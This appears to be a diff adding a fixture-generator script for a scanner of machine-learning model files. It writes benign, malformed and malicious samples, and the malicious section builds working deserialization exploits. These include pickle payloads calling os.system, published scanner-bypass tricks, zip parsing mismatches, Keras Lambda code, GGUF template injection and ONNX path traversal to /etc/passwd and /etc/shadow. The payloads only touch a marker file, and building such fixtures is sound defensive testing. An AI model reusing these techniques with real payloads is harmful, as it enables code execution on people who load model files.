@@ -1,0 +1,469 @@
+#!/usr/bin/env python3
+"""Builds the model-file fixtures under tests/fixtures/models/.
+
+Run with Debian's python3 and python3-torch, -numpy, -joblib, -sklearn, -h5py, -onnx:
+
+    /usr/bin/python3 packages/plugin-model-files/scripts/make-fixtures.py
+
+Outputs are small and committed, so tests never need Python. Malicious payloads only ever run
+`touch /tmp/oculum-pwned` (and only if someone loads them; the scanner never does).
+
+  benign/     ordinary checkpoints: must yield nothing above info
+  malicious/  payloads and published scanner bypasses: must yield a critical finding
+  malformed/  corrupt files: must yield a clear malformed (or limit) finding
+"""
+import bz2
+import gzip
+import io
+import json
+import os
+import pickle
+import shutil
+import struct
+import sys
+import tarfile
+import zipfile
+import zlib
+
+import numpy as np
+
+ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'tests', 'fixtures', 'models')
+PAYLOAD = 'touch /tmp/oculum-pwned'
+
+
+def out(kind, name):
+    d = os.path.join(ROOT, kind)
+    os.makedirs(d, exist_ok=True)
+    return os.path.join(d, name)
+
+
+def write(kind, name, data):
+    with open(out(kind, name), 'wb') as f:
+        f.write(data)
+
+
+class Evil:
+    def __reduce__(self):
+        return (os.system, (PAYLOAD,))
+
+
+# --- hand-written pickle pieces -------------------------------------------------------------------
+def s_unicode(s):
+    b = s.encode()
+    return b'\x8c' + bytes([len(b)]) + b
+
+
+def proto(n):
+    return b'\x80' + bytes([n])
+
+
+def p0_system():
+    return b"cos\nsystem\n(S'" + PAYLOAD.encode() + b"'\ntR."
+
+
+# ==================================================================================================
+def benign():
+    import torch
+    import torch.nn as nn
+    import joblib
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.ensemble import RandomForestClassifier
+    from sklearn.pipeline import Pipeline
+    from sklearn.preprocessing import StandardScaler
+
+    torch.manual_seed(0)
+    lin = nn.Linear(4, 2)
+    torch.save(lin.state_dict(), out('benign', 'torch_state_dict.pt'))
+    opt = torch.optim.Adam(lin.parameters(), lr=0.01)
+    lin(torch.randn(3, 4)).sum().backward()
+    opt.step()
+    torch.save(opt.state_dict(), out('benign', 'torch_optimizer.pt'))
+    seq = nn.Sequential(nn.Linear(4, 8), nn.ReLU(), nn.Dropout(0.1), nn.Linear(8, 2), nn.LayerNorm(2))
+    torch.save(seq, out('benign', 'torch_full_module.pt'))
+    torch.save({'epoch': 3, 'model': seq.state_dict(), 'optimizer': opt.state_dict(), 'loss': 0.25},
+               out('benign', 'torch_training_checkpoint.pt'))
+    torch.save(lin.state_dict(), out('benign', 'torch_legacy.pt'), _use_new_zipfile_serialization=False)
+    scripted = torch.jit.script(nn.Sequential(nn.Linear(3, 3), nn.ReLU()))
+    scripted.save(out('benign', 'torchscript.pt'))
+    # nn.Parameter and a bf16 tensor in a state dict
+    torch.save({'w': torch.zeros(2, dtype=torch.bfloat16), 'p': nn.Parameter(torch.ones(2))}, out('benign', 'torch_mixed.pth'))
+
+    np.save(out('benign', 'numpy_array.npy'), np.arange(12, dtype=np.float32).reshape(3, 4))
+    np.savez(out('benign', 'numpy_arrays.npz'), a=np.zeros(5), b=np.ones((2, 2), dtype=np.int64))
+    np.savez_compressed(out('benign', 'numpy_compressed.npz'), a=np.linspace(0, 1, 50))
+
+    X = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0], [0.5, 0.5], [0.2, 0.9]])
+    y = np.array([0, 1, 1, 0, 1, 0])
+    clf = LogisticRegression().fit(X, y)
+    joblib.dump(clf, out('benign', 'sklearn_logreg.joblib'))
+    pipe = Pipeline([('scale', StandardScaler()), ('rf', RandomForestClassifier(n_estimators=2, max_depth=2, random_state=0))]).fit(X, y)
+    joblib.dump(pipe, out('benign', 'sklearn_pipeline.joblib'))
+    joblib.dump(clf, out('benign', 'sklearn_compressed.joblib'), compress=3)
+    joblib.dump(clf, out('benign', 'sklearn_gzip.joblib'), compress=('gzip', 3))
+    with open(out('benign', 'sklearn_pickle.pkl'), 'wb') as f:
+        pickle.dump(clf, f, protocol=4)
+
+    data = {'weights': [0.5, -1.25, 3.0], 'name': 'tiny', 'layers': (1, 2, 3), 'flags': {True, False}, 'blob': b'\x00\x01'}
+    for p in range(0, 6):
+        with open(out('benign', f'plain_protocol{p}.pkl'), 'wb') as f:
+            pickle.dump(data, f, protocol=p)
+    with gzip.open(out('benign', 'plain.pkl.gz'), 'wb') as f:
+        pickle.dump(data, f, protocol=4)
+    # CPython accepts I0x10 (int(x, 0)) and 01/00 booleans in protocol 0
+    write('benign', 'protocol0_hex_int.pkl', b"(I0x10\nI01\nI00\nL0x20L\nF1.5\nS'a\\x41'\nVb\\u00e9\ntp0\n.")
+
+    write('benign', 'model.safetensors', safetensors({'w': ('F32', [2, 2], struct.pack('<4f', 1, 2, 3, 4)),
+                                                      'b': ('F16', [2], b'\x00\x3c\x00\x40')}, {'format': 'pt'}))
+    llama3 = ("{% set loop_messages = messages %}{% for message in loop_messages %}"
+              "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n' + message['content'] | trim + '<|eot_id|>' %}"
+              "{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
+              "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}")
+    write('benign', 'model.gguf', gguf({'general.architecture': 'llama', 'general.name': 'tiny',
+                                        'tokenizer.chat_template': llama3,
+                                        'tokenizer.ggml.tokens': ['<s>', '</s>', 'a', 'b']},
+                                       [('tok_embd.weight', [4, 8], 0, np.arange(32, dtype=np.float32).tobytes())]))
+
+    import onnx
+    from onnx import helper, TensorProto, numpy_helper
+    w = numpy_helper.from_array(np.ones((2, 2), dtype=np.float32), name='W')
+    g = helper.make_graph([helper.make_node('MatMul', ['X', 'W'], ['Y'])], 'g',
+                          [helper.make_tensor_value_info('X', TensorProto.FLOAT, [2, 2])],
+                          [helper.make_tensor_value_info('Y', TensorProto.FLOAT, [2, 2])], [w])
+    m = helper.make_model(g, producer_name='oculum-fixtures', opset_imports=[helper.make_opsetid('', 13)])
+    onnx.save(m, out('benign', 'model.onnx'))
+    # external data kept beside the model
+    ext = onnx.ModelProto()
+    ext.CopyFrom(m)
+    t = ext.graph.initializer[0]
+    t.data_location = TensorProto.EXTERNAL
+    del t.external_data[:]
+    e = t.external_data.add(); e.key = 'location'; e.value = 'model_external.weights'
+    t.ClearField('raw_data')
+    onnx.save(ext, out('benign', 'model_external.onnx'))
+    write('benign', 'model_external.weights', np.ones((2, 2), dtype=np.float32).tobytes())
+
+    import h5py
+    dense = {'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': [
+        {'class_name': 'InputLayer', 'config': {'batch_input_shape': [None, 4], 'name': 'in'}},
+        {'class_name': 'Dense', 'config': {'name': 'dense', 'units': 2, 'activation': 'relu'}}]}}
+    with h5py.File(out('benign', 'keras_model.h5'), 'w') as f:
+        f.attrs['model_config'] = json.dumps(dense)
+        f.attrs['keras_version'] = '2.15.0'
+        f.attrs['backend'] = 'tensorflow'
+        f.create_group('model_weights').create_dataset('dense/kernel', data=np.zeros((4, 2), dtype=np.float32))
+    write('benign', 'keras_model.keras', keras_archive({
+        'module': 'keras', 'class_name': 'Sequential', 'registered_name': None,
+        'config': {'name': 'seq', 'layers': [
+            {'module': 'keras.layers', 'class_name': 'InputLayer', 'config': {'batch_shape': [None, 4], 'name': 'in'}, 'registered_name': None},
+            {'module': 'keras.layers', 'class_name': 'Dense', 'config': {'name': 'dense', 'units': 2, 'activation': 'relu'}, 'registered_name': None}]}}))
+
+
+def safetensors(tensors, metadata=None):
+    header = {}
+    data = b''
+    if metadata:
+        header['__metadata__'] = metadata
+    for name, (dtype, shape, raw) in tensors.items():
+        header[name] = {'dtype': dtype, 'shape': shape, 'data_offsets': [len(data), len(data) + len(raw)]}
+        data += raw
+    h = json.dumps(header, separators=(',', ':')).encode()
+    h += b' ' * ((8 - len(h) % 8) % 8)
+    return struct.pack('<Q', len(h)) + h + data
+
+
+def gguf_str(s):
+    b = s.encode()
+    return struct.pack('<Q', len(b)) + b
+
+
+def gguf(kv, tensors, version=3):
+    out_ = b'GGUF' + struct.pack('<IQQ', version, len(tensors), len(kv))
+    for k, v in kv.items():
+        out_ += gguf_str(k)
+        if isinstance(v, str):
+            out_ += struct.pack('<I', 8) + gguf_str(v)
+        elif isinstance(v, list):
+            out_ += struct.pack('<IIQ', 9, 8, len(v)) + b''.join(gguf_str(x) for x in v)
+        elif isinstance(v, int):
+            out_ += struct.pack('<II', 4, v)
+    offset = 0
+    for name, dims, typ, raw in tensors:
+        out_ += gguf_str(name) + struct.pack('<I', len(dims)) + b''.join(struct.pack('<Q', d) for d in dims)
+        out_ += struct.pack('<IQ', typ, offset)
+        offset += (len(raw) + 31) // 32 * 32
+    out_ += b'\x00' * ((32 - len(out_) % 32) % 32)
+    for _, _, _, raw in tensors:
+        out_ += raw + b'\x00' * ((32 - len(raw) % 32) % 32)
+    return out_
+
+
+def keras_archive(config):
+    import h5py
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, 'w') as z:
+        z.writestr('metadata.json', json.dumps({'keras_version': '3.3.3', 'date_saved': '2024-01-01@00:00:00'}))
+        z.writestr('config.json', json.dumps(config))
+        h5 = io.BytesIO()
+        with h5py.File(h5, 'w') as f:
+            f.create_group('layers')
+        z.writestr('model.weights.h5', h5.getvalue())
+    return buf.getvalue()
+
+
+# ==================================================================================================
+def malicious():
+    import torch
+    import joblib
+
+    for p in range(0, 6):
+        with open(out('malicious', f'reduce_os_system_protocol{p}.pkl'), 'wb') as f:
+            pickle.dump({'model': [1, 2], 'x': Evil()}, f, protocol=p)
+    torch.save({'state': torch.zeros(2), 'x': Evil()}, out('malicious', 'torch_zip_payload.pt'))
+    torch.save({'state': torch.zeros(2), 'x': Evil()}, out('malicious', 'torch_legacy_payload.pt'), _use_new_zipfile_serialization=False)
+
+    # Legacy format whose magic number is computed by a call (runs before torch checks it).
+    magic = (proto(2) + b'cbuiltins\nint\n' + s_unicode('119547037146038801333356') + b'\x85R.')
+    rest = b''.join(pickle.dumps(x, protocol=2) for x in (1001, {'protocol_version': 1001, 'little_endian': True,
+                                                                  'type_sizes': {'short': 2, 'int': 4, 'long': 4}}))
+    write('malicious', 'torch_legacy_computed_magic.pt', magic + rest + pickle.dumps(Evil(), protocol=2) + pickle.dumps([], protocol=2))
+
+    # STACK_GLOBAL with names kept in the memo and fetched back (picklescan-style bypass).
+    sg = (proto(4) + s_unicode('os') + b'\x94' + s_unicode('system') + b'\x94' + b'0' + b'0'
+          + b'h\x00' + b'h\x01' + b'\x93' + s_unicode(PAYLOAD) + b'\x85R.')
+    write('malicious', 'stack_global_memo.pkl', sg)
+    # module and name split across memo puts and a DUP (protocol 4, 'builtins' + 'eval')
+    sg2 = (proto(4) + s_unicode('builtins') + b'\x94' + s_unicode('eval') + b'\x94' + b'\x93'
+           + s_unicode("__import__('os').system('" + PAYLOAD + "')") + b'\x85R.')
+    write('malicious', 'stack_global_builtins_eval.pkl', sg2)
+    # pathlib + os.system: dotted name resolved by getattr chain (protocol >= 4)
+    write('malicious', 'stack_global_dotted_pathlib_os.pkl',
+          proto(4) + s_unicode('pathlib') + s_unicode('os.system') + b'\x93' + s_unicode(PAYLOAD) + b'\x85R.')
+    # builtins + eval.__call__
+    write('malicious', 'stack_global_eval_call.pkl',
+          proto(4) + s_unicode('builtins') + s_unicode('eval.__call__') + b'\x93'
+          + s_unicode("__import__('os').system('" + PAYLOAD + "')") + b'\x85R.')
+    # builtins.getattr(builtins.__import__('os'), 'system')(payload)
+    ga = (proto(2) + b'cbuiltins\ngetattr\n' + b'cbuiltins\n__import__\n' + b'X\x02\x00\x00\x00os' + b'\x85R'
+          + b'X\x06\x00\x00\x00system' + b'\x86R' + b'X' + struct.pack('<I', len(PAYLOAD)) + PAYLOAD.encode() + b'\x85R.')
+    write('malicious', 'getattr_chain.pkl', ga)
+    # Python 2 name mapped by fix_imports: __builtin__.eval
+    write('malicious', 'py2_builtin_eval.pkl', proto(2) + b'c__builtin__\neval\n' + b'X' + struct.pack('<I', 30) + b"__import__('os').system('id')" + b' ' + b'\x85R.')
+    # protocol 0 forms: GLOBAL+REDUCE, INST, OBJ
+    write('malicious', 'protocol0_global_reduce.pkl', p0_system())
+    write('malicious', 'protocol0_inst.pkl', b"(S'" + PAYLOAD.encode() + b"'\nios\nsystem\n.")
+    write('malicious', 'protocol1_obj.pkl', b"(cos\nsystem\nS'" + PAYLOAD.encode() + b"'\no.")
+    write('malicious', 'subprocess_popen.pkl', proto(2) + b'csubprocess\nPopen\n' + b'(X\x05\x00\x00\x00touchX\x11\x00\x00\x00/tmp/oculum-pwnedl\x85R.')
+    # runpy / numpy runstring / operator.methodcaller / functools.partial (modelscan gaps)
+    write('malicious', 'numpy_runstring.pkl', proto(2) + b'cnumpy.testing._private.utils\nrunstring\n'
+          + b'X' + struct.pack('<I', 38) + b"import os; os.system('touch /tmp/x')  " + b'}\x86R.')
+    write('malicious', 'operator_methodcaller.pkl', proto(2) + b'coperator\nmethodcaller\nX\x06\x00\x00\x00system'
+          + b'X' + struct.pack('<I', len(PAYLOAD)) + PAYLOAD.encode() + b'\x86R' + b'cos\n__name__\n\x85R.')
+    write('malicious', 'functools_partial.pkl', proto(2) + b'cfunctools\npartial\ncos\nsystem\n'
+          + b'X' + struct.pack('<I', len(PAYLOAD)) + PAYLOAD.encode() + b'\x86R)R.')
+    write('malicious', 'torch_hub_load.pkl', proto(2) + b'ctorch.hub\nload\nX\x0b\x00\x00\x00evil/repo:xX\x05\x00\x00\x00model\x86R.')
+    # payload, then a malformed opcode before STOP: the REDUCE runs before CPython fails
+    write('malicious', 'payload_then_malformed.pkl', proto(2) + b'cos\nsystem\nX' + struct.pack('<I', len(PAYLOAD)) + PAYLOAD.encode() + b'\x85R\xff\xfe.')
+    # a benign pickle with a malicious pickle stacked behind it (loaders that call load() twice)
+    write('malicious', 'stacked_pickles.pkl', pickle.dumps({'a': 1}, protocol=2) + pickle.dumps(Evil(), protocol=2))
+    # nested pickles inside bytes: allowlisted loader-of-bytes used as a carrier
+    inner = pickle.dumps(Evil(), protocol=2)
+    write('malicious', 'nested_pickle_loads.pkl', proto(3) + b'c_pickle\nloads\nC' + bytes([len(inner)]) + inner + b'\x85R.')
+    legacy = io.BytesIO()
+    torch.save({'x': Evil()}, legacy, _use_new_zipfile_serialization=False)
+    lb = legacy.getvalue()
+    write('malicious', 'nested_torch_load_from_bytes.pkl',
+          proto(2) + b'ctorch.storage\n_load_from_bytes\nB' + struct.pack('<I', len(lb)) + lb + b'\x85R.')
+    # protocol 2 carries bytes as _codecs.encode(str, 'latin1')
+    write('malicious', 'nested_pickle_codecs.pkl', pickle.dumps(NestedLoads(inner), protocol=2))
+
+    # ---- zip tricks on a PyTorch checkpoint ----
+    zbuf = io.BytesIO()
+    torch.save({'w': torch.zeros(2)}, zbuf)
+    benign_zip = zbuf.getvalue()
+    evil_pkl = pickle.dumps({'w': Evil()}, protocol=2)
+    with zipfile.ZipFile(io.BytesIO(benign_zip)) as z:
+        members = [(i.filename, z.read(i.filename)) for i in z.infolist()]
+    benign_pkl = [d for n, d in members if n.endswith('data.pkl')][0]
+
+    def rebuild(entries):
+        b = io.BytesIO()
+        import warnings
+        with warnings.catch_warnings():
+            warnings.simplefilter('ignore')
+            with zipfile.ZipFile(b, 'w', zipfile.ZIP_STORED) as z:
+                for n, d in entries:
+                    z.writestr(n, d)
+        return bytearray(b.getvalue())
+
+    others = [(n, d) for n, d in members if not n.endswith('data.pkl')]
+    # duplicate names: PyTorch reads the first (malicious), zipfile the last (benign)
+    write('malicious', 'zip_duplicate_names.pt', bytes(rebuild([('archive/data.pkl', evil_pkl)] + others + [('archive/data.pkl', benign_pkl)])))
+    # case: PyTorch matches names case-insensitively
+    write('malicious', 'zip_case_mismatch.pt', bytes(rebuild([('archive/DATA.PKL', evil_pkl)] + others)))
+    # bad CRC: zipfile refuses to read the member, PyTorch ignores CRCs
+    z = rebuild([('archive/data.pkl', evil_pkl)] + others)
+    patch_zip(z, 'archive/data.pkl', crc=0xDEADBEEF)
+    write('malicious', 'zip_bad_crc.pt', bytes(z))
+    # encryption flag bit: zipfile refuses, PyTorch reads the bytes as stored
+    z = rebuild([('archive/data.pkl', evil_pkl)] + others)
+    patch_zip(z, 'archive/data.pkl', flags=0x1)
+    write('malicious', 'zip_encrypted_flag.pt', bytes(z))
+    # any archive folder name
+    write('malicious', 'zip_renamed_archive_dir.pt', bytes(rebuild([('totally_not_a_model/data.pkl', evil_pkl)] + [(n.replace('archive/', 'totally_not_a_model/'), d) for n, d in others])))
+    # nested zip: a zip inside a zip
+    inner_zip = bytes(rebuild([('archive/data.pkl', evil_pkl)] + others))
+    write('malicious', 'zip_nested.zip', bytes(rebuild([('checkpoints/model.pt', inner_zip)])))
+
+    # ---- tar format (PyTorch's oldest format) ----
+    tb = io.BytesIO()
+    with tarfile.open(fileobj=tb, mode='w', format=tarfile.USTAR_FORMAT) as t:
+        for n, d in [('sys_info', pickle.dumps({'protocol_version': 1001}, protocol=2)), ('pickle', pickle.dumps(Evil(), protocol=2)),
+                     ('storages', pickle.dumps(0, protocol=2)), ('tensors', pickle.dumps(0, protocol=2))]:
+            info = tarfile.TarInfo(n)
+            info.size = len(d)
+            t.addfile(info, io.BytesIO(d))
+    write('malicious', 'torch_tar_payload.pt', tb.getvalue())
+
+    # ---- compressed ----
+    with gzip.open(out('malicious', 'payload.pkl.gz'), 'wb') as f:
+        pickle.dump(Evil(), f, protocol=4)
+    write('malicious', 'payload.pkl.zlib', zlib.compress(pickle.dumps(Evil(), protocol=2)))
+    with bz2.open(out('malicious', 'payload.pkl.bz2'), 'wb') as f:
+        pickle.dump(Evil(), f, protocol=4)
+
+    # ---- NumPy object arrays and joblib ----
+    arr = np.empty(2, dtype=object)
+    arr[0] = 1
+    arr[1] = Evil()
+    np.save(out('malicious', 'object_array.npy'), arr, allow_pickle=True)
+    np.savez(out('malicious', 'object_array.npz'), ok=np.zeros(3), bad=arr)
+    joblib.dump({'weights': np.arange(100, dtype=np.float64), 'x': Evil()}, out('malicious', 'joblib_after_array.joblib'))
+    joblib.dump(arr, out('malicious', 'joblib_object_array.joblib'))
+    joblib.dump({'x': Evil()}, out('malicious', 'joblib_zlib.joblib'), compress=3)
+    joblib.dump({'w': np.zeros(10), 'x': Evil()}, out('malicious', 'joblib_gzip.joblib'), compress=('gzip', 3))
+
+    # ---- Keras ----
+    import marshal, base64
+    code = base64.b64encode(marshal.dumps((lambda x: __import__('os').system(PAYLOAD)).__code__)).decode()
+    lam = {'module': 'keras', 'class_name': 'Sequential', 'registered_name': None, 'config': {'name': 'seq', 'layers': [
+        {'module': 'keras.layers', 'class_name': 'Lambda', 'registered_name': None,
+         'config': {'name': 'lambda', 'function': {'class_name': '__lambda__', 'config': {'code': code, 'defaults': None, 'closure': None}}}}]}}
+    write('malicious', 'keras_lambda.keras', keras_archive(lam))
+    import h5py
+    legacy_cfg = {'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': [
+        {'class_name': 'Lambda', 'config': {'name': 'lambda', 'function': [code, None, None], 'function_type': 'lambda'}}]}}
+    with h5py.File(out('malicious', 'keras_lambda.h5'), 'w') as f:
+        f.attrs['model_config'] = json.dumps(legacy_cfg)
+        f.attrs['keras_version'] = '2.15.0'
+    ref = {'module': 'keras', 'class_name': 'Sequential', 'registered_name': None, 'config': {'name': 'seq', 'layers': [
+        {'module': 'keras.layers', 'class_name': 'Dense', 'registered_name': None,
+         'config': {'name': 'dense', 'units': 2,
+                    'activation': {'module': 'os', 'class_name': 'function', 'config': 'system', 'registered_name': 'function'}}}]}}
+    write('malicious', 'keras_os_reference.keras', keras_archive(ref))
+
+    # ---- GGUF chat templates ----
+    ssti = "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ ''.__class__.__mro__[1].__subclasses__() }}"
+    write('malicious', 'gguf_template_injection.gguf', gguf({'general.architecture': 'llama', 'tokenizer.chat_template': ssti}, []))
+    obf = ("{% set a = 'o' ~ 's' %}{% set c = '__cla' ~ 'ss__' %}"
+           "{{ (messages | attr(c)).__base__ }}{{ cycler.__init__.__globals__.os.popen('" + PAYLOAD + "').read() }}")
+    write('malicious', 'gguf_template_obfuscated.gguf', gguf({'general.architecture': 'llama', 'tokenizer.chat_template.tool_use': obf}, []))
+    join = "{{ ((['_','_','glo','bals','_','_']|join)) }}{{ self|attr(['_','_','init','_','_']|join) }}"
+    write('malicious', 'gguf_template_join.gguf', gguf({'general.architecture': 'llama', 'tokenizer.chat_template': join}, []))
+
+    # ---- ONNX external data and custom domains ----
+    import onnx
+    from onnx import helper, TensorProto, numpy_helper
+    def onnx_with_location(loc):
+        w = numpy_helper.from_array(np.ones((2, 2), dtype=np.float32), name='W')
+        w.data_location = TensorProto.EXTERNAL
+        e = w.external_data.add(); e.key = 'location'; e.value = loc
+        w.ClearField('raw_data')
+        g = helper.make_graph([helper.make_node('MatMul', ['X', 'W'], ['Y'])], 'g',
+                              [helper.make_tensor_value_info('X', TensorProto.FLOAT, [2, 2])],
+                              [helper.make_tensor_value_info('Y', TensorProto.FLOAT, [2, 2])], [w])
+        return helper.make_model(g, opset_imports=[helper.make_opsetid('', 13)])
+    onnx.save(onnx_with_location('../../../../etc/passwd'), out('malicious', 'onnx_external_traversal.onnx'))
+    onnx.save(onnx_with_location('/etc/shadow'), out('malicious', 'onnx_external_absolute.onnx'))
+    g = helper.make_graph([helper.make_node('Exec', ['X'], ['Y'], domain='com.evil.ops')], 'g',
+                          [helper.make_tensor_value_info('X', TensorProto.FLOAT, [1])],
+                          [helper.make_tensor_value_info('Y', TensorProto.FLOAT, [1])])
+    onnx.save(helper.make_model(g, opset_imports=[helper.make_opsetid('', 13), helper.make_opsetid('com.evil.ops', 1)]),
+              out('malicious', 'onnx_custom_domain.onnx'))
+
+
+class NestedLoads:
+    """Pickles as pickle.loads(<bytes>), which protocol 2 spells with _codecs.encode."""
+    def __init__(self, data):
+        self.data = data
+
+    def __reduce__(self):
+        return (pickle.loads, (self.data,))
+
+
+def patch_zip(buf, name, crc=None, flags=None):
+    n = name.encode()
+    i = 0
+    while True:
+        i = buf.find(b'PK', i)
+        if i < 0:
+            break
+        sig = bytes(buf[i:i + 4])
+        if sig == b'PK\x03\x04' and bytes(buf[i + 30:i + 30 + len(n)]) == n:
+            if crc is not None:
+                struct.pack_into('<I', buf, i + 14, crc)
+            if flags is not None:
+                struct.pack_into('<H', buf, i + 6, flags)
+        if sig == b'PK\x01\x02' and bytes(buf[i + 46:i + 46 + len(n)]) == n:
+            if crc is not None:
+                struct.pack_into('<I', buf, i + 16, crc)
+            if flags is not None:
+                struct.pack_into('<H', buf, i + 8, flags)
+        i += 2
+
+
+# ==================================================================================================
+def malformed():
+    write('malformed', 'safetensors_header_too_long.safetensors', struct.pack('<Q', 10_000) + b'{"a":1}')
+    write('malformed', 'safetensors_bad_json.safetensors', struct.pack('<Q', 8) + b'{"a":1,,' + b'\x00' * 8)
+    ok = {'a': {'dtype': 'F32', 'shape': [2], 'data_offsets': [0, 8]}, 'b': {'dtype': 'F32', 'shape': [2], 'data_offsets': [4, 12]}}
+    h = json.dumps(ok).encode()
+    write('malformed', 'safetensors_overlap.safetensors', struct.pack('<Q', len(h)) + h + b'\x00' * 12)
+    bad = {'a': {'dtype': 'F32', 'shape': [3, 3], 'data_offsets': [0, 8]}}
+    h = json.dumps(bad).encode()
+    write('malformed', 'safetensors_size_mismatch.safetensors', struct.pack('<Q', len(h)) + h + b'\x00' * 8)
+    past = {'a': {'dtype': 'U8', 'shape': [100], 'data_offsets': [0, 100]}}
+    h = json.dumps(past).encode()
+    write('malformed', 'safetensors_past_end.safetensors', struct.pack('<Q', len(h)) + h + b'\x00' * 10)
+
+    good = gguf({'general.architecture': 'llama'}, [('w', [8], 0, b'\x00' * 32)])
+    write('malformed', 'gguf_truncated.gguf', good[:40])
+    write('malformed', 'gguf_huge_string.gguf', b'GGUF' + struct.pack('<IQQ', 3, 0, 1) + struct.pack('<Q', 2**62) + b'key')
+    write('malformed', 'gguf_bad_dims.gguf', b'GGUF' + struct.pack('<IQQ', 3, 1, 0) + gguf_str('w') + struct.pack('<I', 99))
+    write('malformed', 'gguf_tensor_past_end.gguf', gguf({'general.architecture': 'llama'}, [('w', [1024, 1024], 0, b'\x00' * 32)]))
+
+    write('malformed', 'pickle_truncated.pkl', pickle.dumps({'a': list(range(50))}, protocol=4)[:-20])
+    write('malformed', 'pickle_invalid_opcode.pkl', proto(2) + b'}\xff\xfe.')
+    write('malformed', 'pickle_bad_protocol.pkl', b'\x80\x09}.')
+    write('malformed', 'pickle_memo_missing.pkl', proto(2) + b'h\x07.')
+
+    import torch
+    zb = io.BytesIO()
+    torch.save({'w': torch.zeros(2)}, zb)
+    write('malformed', 'zip_truncated.pt', zb.getvalue()[:-200])
+
+    write('malformed', 'numpy_bad_header.npy', b'\x93NUMPY\x01\x00\x10\x00{"nonsense": 1}' + b'\x00' * 8)
+    write('malformed', 'numpy_short_data.npy', b'\x93NUMPY\x01\x00' + struct.pack('<H', 118)
+          + b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000,), }".ljust(117) + b'\n' + b'\x00' * 16)
+    write('malformed', 'onnx_garbage.onnx', b'\x08\x07\x3a\xff\xff\xff\xff\x0f' + b'\x00' * 10)
+    write('malformed', 'gzip_corrupt.pkl.gz', gzip.compress(pickle.dumps({'a': 1}))[:-12] + b'\x00' * 4)
+
+
+if __name__ == '__main__':
+    if os.path.isdir(ROOT):
+        shutil.rmtree(ROOT)
+    benign()
+    malicious()
+    malformed()
+    for kind in ('benign', 'malicious', 'malformed'):
+        files = sorted(os.listdir(os.path.join(ROOT, kind)))
+        print(kind, len(files), sum(os.path.getsize(os.path.join(ROOT, kind, f)) for f in files), 'bytes')
